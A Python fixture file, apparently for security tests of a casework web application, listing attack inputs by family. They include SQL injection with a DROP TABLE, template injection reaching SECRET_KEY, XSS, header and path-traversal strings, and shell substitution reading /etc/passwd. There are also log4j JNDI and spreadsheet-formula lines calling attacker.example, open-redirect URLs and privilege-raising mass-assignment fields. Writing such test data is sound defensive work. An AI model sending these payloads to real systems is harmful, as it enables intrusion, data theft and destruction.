"""
What attackers send, by family. Data only; the doors it is sent to stand in the tests.
"""

SQL = {
    "quote": "'",
    "or true": "' OR '1'='1",
    "or true commented": "x' OR 1=1 --",
    "stacked drop": "'; DROP TABLE casework_case; --",
    "union": "' UNION SELECT number, query_code, NULL FROM casework_case --",
    "sleep": "'||pg_sleep(5)--",
    "sleep in a case": "(SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE 1 END)",
    "dollar quotes": "$$;SELECT pg_sleep(5);$$",
    "backslash": "\\'; SELECT 1 --",
    "wildcard": "%",
    "wildcards": "%%%%%_____",
    "placeholder": "%s%(reach_principal)s",
    "cast": "1::int/0",
    "json path": "$.** ? (@ > 0)",
    "array": "{1,2,3}",
    "text search operators": "!!! & | ( ) :* <->",
}

TEMPLATE = {
    "jinja sum": "{{ 1333*3 }}",
    "jinja classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "jinja settings": "{{ settings.SECRET_KEY }}",
    "jinja statement": "{% for x in [].__class__.__base__.__subclasses__() %}{% endfor %}",
    "python format": "{0.__class__.__init__.__globals__}",
    "percent format": "%(SECRET_KEY)s",
    "dollar braces": "${1333*3}",
    "hash braces": "#{1333*3}",
    "server side include": '<!--#exec cmd="id"-->',
}

SCRIPT = {
    "script": "<script>alert(1333)</script>",
    "picture": '"><img src=x onerror=alert(1333)>',
    "vector": "<svg/onload=alert(1333)>",
    "attribute": '" autofocus onfocus=alert(1333) x="',
    "script address": "javascript:alert(1333)",
    "entity": "&lt;script&gt;alert(1333)&lt;/script&gt;",
    "end of title": "</title><script>alert(1333)</script>",
    "utf-7": "+ADw-script+AD4-alert(1333)+ADw-/script+AD4-",
}

HEADER = {
    "line break": "x\r\nX-Injected: 1333",
    "line feed": "x\nSet-Cookie: tongban_session=1333",
    "carriage return": "x\rX-Injected: 1333",
    "encoded line break": "x%0d%0aX-Injected:%201333",
    "line separator": "x\u2028X-Injected: 1333",
    "overlong": "x\u560d\u560aX-Injected: 1333",
}

PATH = {
    "up": "../../../../etc/passwd",
    "up encoded": "..%2f..%2f..%2fetc%2fpasswd",
    "up twice encoded": "..%252f..%252fetc%252fpasswd",
    "up with backslashes": "..\\..\\..\\keys.json",
    "up with dots between": "....//....//keys.json",
    "absolute": "/etc/passwd",
    "file address": "file:///etc/passwd",
    "half-width": "．．／．．／keys.json",
    "null": "keys.json%00.pdf",
}

UNICODE = {
    "right to left": "\u202etxt.exe",
    "zero width": "张\u200b三",
    "full-width digits": "１１０１０５１９４９１２３１００２Ｘ",
    "combining": "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
    "lone surrogate encoded": "%ed%a0%80",
    "bell": "\x07",
    "escape": "\x1b[31m",
    "ligature": "ﬃ",
    "beyond the plane": "𠮷𠮷𠮷",
    "not a character": "\ufffe",
}

LANGUAGE = {
    "shell": "; cat /etc/passwd",
    "shell substitution": "$(id)",
    "shell backticks": "`id`",
    "pipe": "| id",
    "directory": "*)(uid=*))(|(uid=*",
    "document query": '{"$gt": ""}',
    "entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "log4j": "${jndi:ldap://attacker.example/a}",
    "formula": '=HYPERLINK("http://attacker.example","x")',
    "prototype": "__proto__[admin]=1",
    "pickle": "gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjA1",
    "true": "true",
    "nothing": "null",
    "not a number": "NaN",
    "huge number": "9" * 400,
    "negative": "-1",
    "oversize": "长" * 3000,
}

INJECTIONS = {
    f"{family}: {name}": text
    for family, payloads in {
        "sql": SQL,
        "template": TEMPLATE,
        "script": SCRIPT,
        "header": HEADER,
        "path": PATH,
        "unicode": UNICODE,
        "language": LANGUAGE,
    }.items()
    for name, text in payloads.items()
}

ELSEWHERE = (
    "https://attacker.example/",
    "http://attacker.example",
    "//attacker.example/",
    "///attacker.example/",
    "////attacker.example/",
    "/\\attacker.example/",
    "\\\\attacker.example\\",
    "/\t/attacker.example/",
    "/\n/attacker.example/",
    "https:attacker.example",
    "https:/attacker.example",
    "https:///attacker.example",
    "HTTPS://attacker.example/",
    "javascript:alert(1)",
    "data:text/html,x",
    "vbscript:x",
    "https://testserver@attacker.example/",
    "https://attacker.example#testserver",
    "https://testserver.attacker.example/",
    "http://testserver:80@attacker.example/",
    "//attacker.example%2f..",
    "/%2f%2fattacker.example",
    "https://attacker。example/",
    "//ⓐttacker.example/",
    "http://[::1]@attacker.example/",
    " //attacker.example/",
    "\x00//attacker.example/",
)

HOSTS = (
    "attacker.example",
    "testserver.attacker.example",
    "attacker.example:80",
    "testserver:80@attacker.example",
    "testserver, attacker.example",
    "testserver\tattacker.example",
    "127.0.0.1.attacker.example",
    "[::ffff:1.2.3.4]",
    "..",
    "testserver:port",
    "testserver/../attacker.example",
    "-attacker",
    "<script>",
    "' OR 1=1",
    "",
)

EXTRA_FIELDS = {
    "status": "GRANTED",
    "number": "511602000000MB0000000100001",
    "query_code": "AAAAAAAAAA",
    "agency_code": "11511600MB1234567X",
    "division_code": "000000000000",
    "applicant_id": "00000000-0000-4000-8000-000000000001",
    "principal_id": "00000000-0000-4000-8000-000000000001",
    "person_id": "00000000-0000-4000-8000-000000000001",
    "acting_for": {"id": "00000000-0000-4000-8000-000000000001"},
    "mandate_id": "00000000-0000-4000-8000-000000000001",
    "assurance_level": 4,
    "checked_level": 4,
    "roles": ["OPERATOR"],
    "posts": ["DECISION"],
    "scopes": ["cases:write"],
    "is_staff": True,
    "is_superuser": True,
    "is_active": True,
    "kind": "STAFF",
    "session_epoch": 99,
    "at": "2000-01-01T00:00:00Z",
    "version": 99,
    "__class__": "Actor",
    "_state": {"adding": False},
    "pk": 1,
    "id": 1,
}
